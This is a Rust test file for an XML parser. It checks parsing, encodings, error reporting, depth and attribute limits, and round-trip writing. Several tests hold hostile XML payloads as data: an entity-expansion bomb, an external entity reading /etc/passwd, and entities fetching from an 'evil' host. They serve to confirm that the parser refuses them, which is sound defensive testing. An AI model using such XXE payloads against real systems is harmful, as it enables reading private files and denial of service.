//! A corpus of documents, whole, broken and hostile.

use super::{XmlError, parse, write};
use crate::model::Value;
use crate::script::value::json;

/// A document as JSON, whose form is known.
fn shown(text: &str) -> String {
    let value = parse(text.as_bytes()).expect(text);
    json::write(&value).expect("it has a JSON form")
}

#[test]
fn elements_are_what_they_say() {
    for (text, expected) in [
        (
            "<a/>",
            r#"{"name":"a","ns":"","attrs":{},"text":"","children":[]}"#,
        ),
        (
            "<?xml version='1.0'?><!DOCTYPE a SYSTEM 'http://evil/x.dtd'><!-- c --><a k='&lt;&#65;'> x<![CDATA[<&]]> </a>",
            r#"{"name":"a","ns":"","attrs":{"k":"<A"},"text":" x<& ","children":[]}"#,
        ),
        (
            "<p:a xmlns:p='urn:p' xmlns='urn:d' p:k='1' k='2'>\n <b/>\n</p:a>",
            r#"{"name":"a","ns":"urn:p","attrs":{"{urn:p}k":"1","k":"2"},"text":"","children":[{"name":"b","ns":"urn:d","attrs":{},"text":"","children":[]}]}"#,
        ),
        (
            "<a xml:lang='en'>one <b/>two</a>",
            r#"{"name":"a","ns":"","attrs":{"{http://www.w3.org/XML/1998/namespace}lang":"en"},"text":"one two","children":[{"name":"b","ns":"","attrs":{},"text":"","children":[]}]}"#,
        ),
    ] {
        assert_eq!(shown(text), expected);
    }
}

#[test]
fn encodings_are_those_declared() {
    for bytes in [
        "<a>é</a>".as_bytes().to_vec(),
        "\u{feff}<a>é</a>".as_bytes().to_vec(),
        b"<?xml version=\"1.0\" encoding='ISO-8859-1'?><a>\xe9</a>".to_vec(),
        b"\xff\xfe<\0a\0>\0\xe9\0<\0/\0a\0>\0".to_vec(),
    ] {
        let value = parse(&bytes).expect("a document");
        assert_eq!(value.get("text"), Some(&Value::text("é")));
    }
    assert_eq!(parse(b"<a>\xe9</a>"), Err(XmlError::Encoding("UTF-8")));
}

#[test]
fn what_is_broken_says_where() {
    for text in [
        "",
        " ",
        "x",
        "<a>",
        "<a></b>",
        "<a/><b/>",
        "<a k=1/>",
        "<a k='1' k='2'/>",
        "<p:a/>",
        "<a>&nosuch;</a>",
        "<a>\u{1}</a>",
        "<a>&#0;</a>",
        "<!-- -- --><a/>",
        "{\"json\": 1}",
        "<a",
        "<!DOCTYPE",
        "<a b='",
        "<![CDATA[",
        "<?x",
    ] {
        let error = parse(text.as_bytes()).expect_err(text);
        assert!(matches!(error, XmlError::Broken(_)), "{text}: {error}");
    }
    let error = parse(b"<a>\n<b></a>").expect_err("it is broken");
    assert!(error.to_string().contains("2:"), "{error}");
}

#[test]
fn nothing_expands_and_nothing_is_fetched() {
    let laughs = "<!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>]><l>&b;</l>";
    let outside = "<!DOCTYPE l [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><l>&x;</l>";
    let parameter = "<!DOCTYPE l [<!ENTITY % p SYSTEM 'http://evil/'> %p;]><l/>";
    for text in [laughs, outside, parameter] {
        assert_eq!(parse(text.as_bytes()), Err(XmlError::Entities), "{text}");
    }
}

#[test]
fn depth_is_bounded_and_width_is_not_mistaken_for_it() {
    let nested = |depth: usize| format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    assert!(parse(nested(128).as_bytes()).is_ok());
    assert_eq!(parse(nested(129).as_bytes()), Err(XmlError::Depth));
    assert_eq!(
        parse("<a>".repeat(1_000_000).as_bytes()),
        Err(XmlError::Depth)
    );
    let hidden = format!("<a k='{}'>{}</a>", "/&gt;", "<b k='/>'>".repeat(200_000));
    assert_eq!(parse(hidden.as_bytes()), Err(XmlError::Depth));
    let wide = format!(
        "<a>{}</a>",
        "<b k='>'/><!-- <c> --><![CDATA[<d>]]><?e <f> ?>".repeat(500)
    );
    assert!(parse(wide.as_bytes()).is_ok());
}

#[test]
fn what_is_written_reads_the_same() {
    for text in [
        "<a/>",
        "<a k='&lt;&#10;&#9;\"'>x &amp; y&#13;</a>",
        "<p:a xmlns:p='urn:p' p:k='1' k='2'><b/><p:c xmlns:p='urn:q'>t</p:c></p:a>",
        "<a xmlns='urn:a' xml:lang='en'><b xmlns=''><c/></b></a>",
        "<größe höhe='1'/>",
    ] {
        let value = parse(text.as_bytes()).expect(text);
        let again = write(&value).expect(text);
        assert_eq!(parse(again.as_bytes()), Ok(value), "{text}: {again}");
    }
}

#[test]
fn more_names_in_one_place_than_anybody_means_are_refused() {
    let attributes: String = (0..257).map(|n| format!(" a{n}='>'")).collect();
    let error = parse(format!("<a{attributes}/>").as_bytes()).expect_err("too many");
    assert_eq!(error, XmlError::Names);
    let most: String = (0..256).map(|n| format!(" a{n}='>'")).collect();
    parse(format!("<a{most}/>").as_bytes()).expect("as many as may be");
    // Namespaces count where they are in scope: side by side there may be any number.
    let one = |n: usize| format!("<b xmlns:n{n}='u'>");
    let nested: String = (0..100)
        .map(|n| one(3 * n).replace('>', " xmlns:x='u' xmlns:y='u'>"))
        .collect();
    assert_eq!(parse(nested.as_bytes()), Err(XmlError::Names));
    let beside: String = (0..1000).map(|n| one(n) + "</b>").collect();
    parse(format!("<a>{beside}</a>").as_bytes()).expect("none of them is around another");
}
